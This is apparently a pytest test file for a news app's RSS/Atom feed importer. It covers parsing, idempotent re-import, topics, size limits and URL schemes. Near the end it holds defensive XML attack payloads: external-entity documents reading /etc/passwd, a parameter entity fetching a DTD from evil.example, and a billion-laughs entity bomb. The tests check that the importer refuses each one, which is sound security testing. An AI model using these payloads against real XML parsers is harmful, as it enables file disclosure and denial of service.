"""`mynews import-feed`: RSS and Atom entries become articles, safely and repeatably."""

import hashlib
import os
import subprocess
import sys
from collections.abc import AsyncIterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import pytest
from sqlalchemy import func, select
from sqlalchemy.ext.asyncio import AsyncSession

from app.articles import batch, feed_source, importer
from app.articles.feed_source import FeedError
from app.models import Article

FIXTURES = Path(__file__).parent / "fixtures"
PROJECT_ROOT = Path(__file__).resolve().parents[2]
NOW = datetime(2026, 11, 27, 12, 0, tzinfo=UTC)
SPECIAL_TITLE = 'Tom & Jerry\'s "café" deal: 5 < 6 — Zürich, São Paulo, 北京'


def rss(
    items: str, *, channel_title: str = "Test Wire", link: str = "https://wire.example/"
) -> bytes:
    return (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
        f"<title>{channel_title}</title><link>{link}</link>{items}"
        "</channel></rss>"
    ).encode()


def item(guid: str, url: str, title: str) -> str:
    return (
        f"<item><title>{title}</title><link>{url}</link><guid>{guid}</guid>"
        "<pubDate>Wed, 25 Nov 2026 18:40:00 GMT</pubDate></item>"
    )


async def import_document(session: AsyncSession, document: bytes) -> importer.ImportReport:
    return await importer.import_parsed(
        session, importer.parse_feed(document, default_topic=None, now=NOW), NOW
    )


async def import_file(
    session: AsyncSession, name: str, *, topic: str | None = None
) -> importer.ImportReport:
    return await importer.import_feed(session, str(FIXTURES / name), default_topic=topic, now=NOW)


async def stored(session: AsyncSession, url: str) -> Article:
    article = await session.scalar(
        select(Article).where(Article.url == url).execution_options(populate_existing=True)
    )
    assert article is not None, url
    return article


async def test_rss_entries_become_articles(
    session: AsyncSession, client: httpx.AsyncClient
) -> None:
    report = await import_file(session, "world.rss")

    assert (report.entries, report.counts["created"]) == (5, 3)
    assert report.errors == [
        "entry 4: skipped: it has no title",
        "entry 5: skipped: it has no http(s) link",
    ]
    article = await stored(session, "https://wire.example/world/2026/11/26/china-russia-defence")
    shown = (await client.get(f"/v1/articles/{article.id}")).json()
    assert shown["headline"] == (
        "Russia and China show solidarity as defence minister heads to Moscow"
    )
    # A guid unique only within its feed is scoped to the feed's own link.
    assert shown["external_id"] == "https://wire.example/world wire-20261126-0001"
    assert shown["published_at"] == "2026-11-26T08:15:00Z"
    assert [t["name"] for t in shown["topics"]] == ["China-Russia relations", "Diplomacy"]
    # "address (Name)" bylines keep the name only; dc:creator adds a second author.
    assert [a["name"] for a in shown["authors"]] == ["Anna Kowalski", "Piotr Lindqvist"]
    assert shown["standfirst"] == "Vladimir Putin gives his visitor a high-profile welcome."
    assert shown["body"] == (
        "The visit is the minister's first abroad since taking office.\n\n"
        'Officials in both capitals said ties were "unaffected" by the war in Ukraine.'
    )
    assert shown["image"] == {
        "url": "https://wire.example/img/kremlin.jpg",
        "caption": "The Kremlin at dusk, seen from across the Moskva river",
        "credit": "Associated Press",
    }
    assert shown["language"] == "en-GB"

    floods = await stored(session, "https://wire.example/uk/2026/11/25/floods")
    assert floods.author_names == ["Maria Ortega"]
    assert floods.image == {
        "url": "https://wire.example/img/floods.jpg",
        "caption": "Sandbags line the high street as the river peaks",
        "credit": "Reuters",
    }
    assert floods.video == {
        "url": "https://wire.example/video/floods.mp4",
        "title": "River levels at their peak",
        "duration_seconds": 94,
    }
    assert await session.scalar(select(func.count()).select_from(Article)) == 3


async def test_atom_entries_become_articles(session: AsyncSession) -> None:
    report = await import_file(session, "science.atom")

    assert (report.title, report.counts["created"], report.errors) == (
        "Example Science Desk",
        2,
        [],
    )
    comet = await stored(session, "https://science.example/2026/11/comet")
    assert comet.headline == "Comet C/2026 A1 brightens & surprises astronomers"
    assert comet.external_id == "tag:science.example,2026:comet-a1"
    assert comet.author_names == ["Ingrid Solberg", "Kwame Mensah"]
    assert comet.topic_names == ["Astronomy", "Space exploration"]
    assert comet.published_at == datetime(2026, 11, 25, 1, 30, tzinfo=UTC)
    assert comet.updated_at == datetime(2026, 11, 25, 8, 0, tzinfo=UTC)
    assert comet.standfirst == "The comet may be visible to the naked eye next week."
    assert comet.body.startswith("Observers in the southern hemisphere")
    # The full image wins over the thumbnail; caption and credit come from Media RSS.
    assert comet.image == {
        "url": "https://science.example/img/comet.jpg",
        "caption": "Comet C/2026 A1 over the Atacama desert",
        "credit": "AFP",
    }
    # No <published>: the entry's <updated> date is used. No category: the feed's title.
    # No author: the feed's, as Atom has it (the comet's own authors came first).
    survey = await stored(session, "https://science.example/2026/11/deep-sea")
    assert survey.published_at == datetime(2026, 11, 23, 10, 0, tzinfo=UTC)
    assert survey.topic_names == ["Example Science Desk"]
    assert survey.author_names == ["Science Desk"]
    assert survey.standfirst == "The expedition spent six weeks at sea."


@pytest.mark.parametrize("name", ["world.rss", "science.atom"])
async def test_importing_again_changes_nothing(session: AsyncSession, name: str) -> None:
    first = await import_file(session, name)
    again = await import_file(session, name)

    assert again.counts["unchanged"] == first.counts["created"] > 0
    assert (again.counts["created"], again.counts["updated"]) == (0, 0)
    assert again.errors == first.errors


async def test_feeds_sharing_entry_ids_keep_their_own_articles(session: AsyncSession) -> None:
    cities = rss(
        item("1", "https://cities.example/1", "Trams return"), link="https://cities.example/"
    )
    sport = rss(item("1", "https://sport.example/1", "Cup final"), link="https://sport.example/")

    assert (await import_document(session, cities)).counts["created"] == 1
    assert (await import_document(session, sport)).counts["created"] == 1
    again = await import_document(session, cities)

    assert (again.counts["unchanged"], again.errors) == (1, [])
    trams = await stored(session, "https://cities.example/1")
    final = await stored(session, "https://sport.example/1")
    assert (trams.headline, trams.external_id) == ("Trams return", "https://cities.example/ 1")
    assert (final.headline, final.external_id) == ("Cup final", "https://sport.example/ 1")


async def test_a_cms_article_with_an_entrys_id_is_left_alone(session: AsyncSession) -> None:
    cms = {
        "external_id": "1",
        "url": "https://news.example/desk/1",
        "headline": "Budget passes",
        "published_at": NOW,
        "topics": ["Politics"],
    }
    [filed] = await batch.upsert_articles(session, [cms], NOW)
    report = await import_document(session, rss(item("1", "https://wire.example/1", "Floods")))

    assert (report.counts["created"], report.errors) == (1, [])
    desk = await stored(session, "https://news.example/desk/1")
    assert (desk.id, desk.headline, desk.external_id) == (filed.id, "Budget passes", "1")


@pytest.mark.parametrize(
    "guid",
    [
        "https://wire.example/2026/11/25/floods",
        "tag:wire.example,2026:floods",
        "urn:uuid:0b8f4d7e-5a41-4a9c-9d1e-2f6c1a7b3e90",
    ],
)
def test_entry_ids_minted_to_be_unique_everywhere_are_kept(guid: str) -> None:
    document = rss(item(guid, "https://wire.example/floods", "Floods"))
    parsed = importer.parse_feed(document, default_topic=None, now=NOW)
    assert (parsed.items[0]["external_id"], parsed.bare_ids) == (guid, {})


def test_a_long_scoped_id_is_hashed_within_the_limit() -> None:
    guid = "x" * 190
    document = rss(item(guid, "https://wire.example/x", "X"))
    parsed = importer.parse_feed(document, default_topic=None, now=NOW)
    scoped = hashlib.sha256(f"https://wire.example/ {guid}".encode()).hexdigest()
    assert parsed.items[0]["external_id"] == f"sha256:{scoped}"
    assert parsed.bare_ids == {0: guid}


async def test_an_article_imported_under_its_bare_id_is_taken_over(
    session: AsyncSession,
) -> None:
    document = rss(item("wire-7", "https://wire.example/7", "Storm warning"))
    # As an import made before ids were scoped to their feed stored the entry.
    [entry] = importer.parse_feed(document, default_topic=None, now=NOW).items
    [earlier] = await batch.upsert_articles(session, [entry | {"external_id": "wire-7"}], NOW)

    taken_over = await import_document(session, document)
    again = await import_document(session, document)

    assert (taken_over.counts["updated"], taken_over.counts["created"]) == (1, 0)
    assert taken_over.errors == []
    assert again.counts["unchanged"] == 1
    article = await stored(session, "https://wire.example/7")
    assert (article.id, article.external_id) == (earlier.id, "https://wire.example/ wire-7")
    assert await session.scalar(select(func.count()).select_from(Article)) == 1


async def test_topic_option_files_every_entry_under_it_first(session: AsyncSession) -> None:
    report = await import_file(session, "world.rss", topic="Wire world")

    assert report.counts["created"] == 3
    defence = await stored(session, "https://wire.example/world/2026/11/26/china-russia-defence")
    assert defence.topic_names == ["Wire world", "China-Russia relations", "Diplomacy"]
    # An entry without categories gets the topic instead of the feed's title.
    cafe = await stored(session, "https://wire.example/business/2026/11/26/cafe-deal")
    assert cafe.topic_names == ["Wire world"]


async def test_entry_without_any_topic_or_feed_title_is_general(session: AsyncSession) -> None:
    document = rss(
        "<item><title>Untitled wire</title><link>https://wire.example/x</link>"
        "<pubDate>Wed, 25 Nov 2026 18:40:00 GMT</pubDate></item>",
        channel_title="",
    )
    parsed = importer.parse_feed(document, default_topic=None, now=NOW)
    assert parsed.items[0]["topics"] == ["General"]


async def test_special_characters_come_through_unchanged(session: AsyncSession) -> None:
    await import_file(session, "world.rss")

    cafe = await stored(session, "https://wire.example/business/2026/11/26/cafe-deal")
    assert cafe.headline == SPECIAL_TITLE
    assert cafe.standfirst == 'Shares rose 3% & analysts cheered: "a bold move" in Zürich.'
    assert cafe.image is not None
    # An enclosure has no caption of its own: the headline describes it.
    assert cafe.image["caption"] == SPECIAL_TITLE


def test_entry_without_date_is_published_now_and_long_texts_are_cut() -> None:
    headline = "Word " * 100
    standfirst = "Sentence " * 200
    document = rss(
        f"<item><title>{headline}</title><link>https://wire.example/long</link>"
        f"<description>{standfirst}</description></item>"
    )
    item = importer.parse_feed(document, default_topic=None, now=NOW).items[0]

    assert item["published_at"] == NOW
    assert isinstance(item["headline"], str)
    assert isinstance(item["standfirst"], str)
    assert len(item["headline"]) <= 300
    assert item["headline"].endswith("Word…")
    assert len(item["standfirst"]) <= 1000
    assert item["standfirst"].endswith("Sentence…")


@pytest.mark.parametrize("guid", ["<guid>undated-1</guid>", ""], ids=["with guid", "by url"])
async def test_undated_entry_keeps_its_first_date_when_imported_again(
    session: AsyncSession, guid: str
) -> None:
    document = rss(f"<item><title>Undated</title><link>https://wire.example/u</link>{guid}</item>")
    later = NOW + timedelta(days=1)

    first = importer.parse_feed(document, default_topic=None, now=NOW)
    assert (await importer.import_parsed(session, first, NOW)).counts["created"] == 1
    again = importer.parse_feed(document, default_topic=None, now=later)
    report = await importer.import_parsed(session, again, later)

    assert (report.counts["unchanged"], report.counts["updated"]) == (1, 0)
    assert (await stored(session, "https://wire.example/u")).published_at == NOW


def test_feed_with_html_entities_is_read_leniently() -> None:
    # Not well-formed XML (&nbsp; is HTML), as many real feeds are: feedparser copes.
    document = rss(
        "<item><title>Markets&nbsp;rally</title><link>https://wire.example/m</link>"
        "<category>Markets</category></item>"
    )
    parsed = importer.parse_feed(document, default_topic=None, now=NOW)
    assert parsed.items[0]["headline"] == "Markets rally"
    assert parsed.items[0]["topics"] == ["Markets"]


XXE_DOCUMENTS = {
    "external entity": (FIXTURES / "xxe.rss").read_bytes(),
    "parameter entity": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % remote SYSTEM '
        b'"http://evil.example/x.dtd"> %remote;]><rss version="2.0"><channel><title>x</title>'
        b"</channel></rss>"
    ),
    "billion laughs": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
        b']><rss version="2.0"><channel><title>T</title><item><title>&c;</title>'
        b"<link>https://evil.example/1</link></item></channel></rss>"
    ),
    "entity in a malformed document": (
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><title>&xxe;</title><item><title>&nbsp;&xxe;"
    ),
}


@pytest.mark.parametrize("document", XXE_DOCUMENTS.values(), ids=XXE_DOCUMENTS.keys())
async def test_entity_declarations_are_refused(
    session: AsyncSession, tmp_path: Path, document: bytes
) -> None:
    path = tmp_path / "feed.xml"
    path.write_bytes(document)

    with pytest.raises(FeedError, match="entities"):
        await importer.import_feed(session, str(path), default_topic=None, now=NOW)

    # Refused outright: no article exists to carry /etc/passwd ("root:...") or anything else.
    assert await session.scalar(select(func.count()).select_from(Article)) == 0


async def test_oversized_file_is_refused(session: AsyncSession, tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    item = b"<item><title>Filler</title><link>https://wire.example/f</link></item>"
    path.write_bytes(
        rss("").replace(b"</channel>", item * (feed_source.MAX_FEED_BYTES // len(item)))
    )
    assert path.stat().st_size > feed_source.MAX_FEED_BYTES

    with pytest.raises(FeedError, match="larger than 10 MiB"):
        await importer.import_feed(session, str(path), default_topic=None, now=NOW)


def streaming(total: int, *, declare_length: bool) -> httpx.MockTransport:
    def handler(request: httpx.Request) -> httpx.Response:
        chunk = b" " * 65536

        async def body() -> AsyncIterator[bytes]:
            for _ in range(total // len(chunk) + 1):
                yield chunk

        headers = {"Content-Length": str(total)} if declare_length else {}
        return httpx.Response(200, headers=headers, content=body())

    return httpx.MockTransport(handler)


@pytest.mark.parametrize("declare_length", [True, False])
async def test_oversized_download_is_refused(declare_length: bool) -> None:
    transport = streaming(feed_source.MAX_FEED_BYTES + 65536, declare_length=declare_length)
    with pytest.raises(FeedError, match="larger than 10 MiB"):
        await feed_source.fetch("https://wire.example/feed.xml", transport=transport)


async def test_download_is_read_and_relative_links_resolved() -> None:
    document = rss("<item><title>Relative</title><link>/world/relative</link></item>")
    transport = httpx.MockTransport(lambda request: httpx.Response(200, content=document))

    data = await feed_source.fetch("https://wire.example/feeds/world.xml", transport=transport)
    parsed = importer.parse_feed(
        data, default_topic=None, now=NOW, base_url="https://wire.example/feeds/world.xml"
    )
    assert parsed.items[0]["url"] == "https://wire.example/world/relative"


async def test_failed_download_is_a_clear_error() -> None:
    transport = httpx.MockTransport(lambda request: httpx.Response(404))
    with pytest.raises(FeedError, match="HTTP 404"):
        await feed_source.fetch("https://wire.example/gone.xml", transport=transport)


@pytest.mark.parametrize(
    "source", ["file:///etc/passwd", "ftp://wire.example/feed.xml", "gopher://wire.example/"]
)
async def test_other_url_schemes_are_refused(session: AsyncSession, source: str) -> None:
    with pytest.raises(FeedError, match="Only local files and http"):
        await importer.import_feed(session, source, default_topic=None, now=NOW)


def test_not_a_feed_is_refused() -> None:
    with pytest.raises(FeedError, match="not an RSS or Atom feed"):
        importer.parse_feed(b"<html><body>Hello</body></html>", default_topic=None, now=NOW)


# --- The command, as an operator runs it ----------------------------------------------


def run(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(  # noqa: S603
        [sys.executable, "-m", "app", *args],
        env=env,
        capture_output=True,
        text=True,
        check=False,
        timeout=120,
        cwd=PROJECT_ROOT,
    )


def test_import_feed_command(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("MYNEWS_")}
    env["MYNEWS_DATABASE_URL"] = f"sqlite+aiosqlite:///{tmp_path / 'cli.db'}"
    assert run(env, "migrate").returncode == 0
    feed = str(FIXTURES / "world.rss")

    first = run(env, "import-feed", feed, "--topic", "Wire world")
    assert first.returncode == 0, first.stderr
    lines = first.stdout.splitlines()
    assert lines[0] == (
        "Imported 5 entries from 'Example Wire: World': 3 created, 0 updated, 0 unchanged, 2 errors"
    )
    assert lines[1:] == [
        "  entry 4: skipped: it has no title",
        "  entry 5: skipped: it has no http(s) link",
    ]

    again = run(env, "import-feed", feed, "--topic", "Wire world")
    assert "0 created, 0 updated, 3 unchanged, 2 errors" in again.stdout

    refused = run(env, "import-feed", str(FIXTURES / "xxe.rss"))
    assert refused.returncode == 1
    assert "declares XML entities" in refused.stderr
    assert "Traceback" not in refused.stderr
    assert "root:" not in refused.stdout + refused.stderr
